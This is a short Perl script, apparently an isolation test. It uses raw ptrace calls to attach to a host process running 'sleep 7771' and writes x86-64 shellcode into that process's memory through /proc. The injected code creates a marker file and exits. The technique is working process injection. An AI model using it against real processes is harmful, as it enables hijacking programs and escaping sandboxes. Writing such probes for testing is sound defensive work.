# Stops a process of the host, has it make a file of the host, and lets it end. x86-64.
my ($ATTACH, $GETREGS, $CONT) = (16, 12, 7);
opendir my $processes, '/proc';
my ($victim) = grep { /^\d/ && `cat /proc/$_/cmdline 2>/dev/null` =~ /^sleep\0007771/ } readdir $processes;
die "no victim\n" unless $victim;
sub ptrace { return syscall 101, $_[0], $victim + 0, 0, $_[1] }
ptrace($ATTACH, 0) == 0 or die "attach: $!\n";
waitpid $victim, 0x40000000;
my $registers = "\0" x 216;
ptrace($GETREGS, $registers) == 0 or die "registers: $!\n";
my $at = (unpack 'Q27', $registers)[16];
my $path = "/srv/walk/marker\0";
# two steps that do nothing, since a call that was interrupted begins again; open(path, O_CREAT | O_WRONLY, 0644); exit(0)
my $code = "\x90\x90\x48\x8d\x3d" . pack('V', 26) . "\xbe\x41\0\0\0\xba\xa4\x01\0\0\xb8\x02\0\0\0\x0f\x05\x31\xff\xb8\x3c\0\0\0\x0f\x05" . $path;
open my $memory, '+<', "/proc/$victim/mem" or die "memory: $!\n";
sysseek $memory, $at - 2, 0;
syswrite $memory, $code or die "write: $!\n";
ptrace($CONT, 0);
waitpid $victim, 0x40000000;
